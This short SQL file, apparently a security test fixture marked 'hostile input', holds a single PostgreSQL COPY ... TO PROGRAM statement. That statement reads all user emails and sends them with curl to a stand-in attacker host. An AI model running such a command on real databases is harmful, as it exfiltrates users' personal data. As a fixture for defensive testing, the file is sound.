-- description: hostile input
-- owner: @security
-- group_size: n

COPY (SELECT email FROM users) TO PROGRAM 'curl -d @- evil.example'
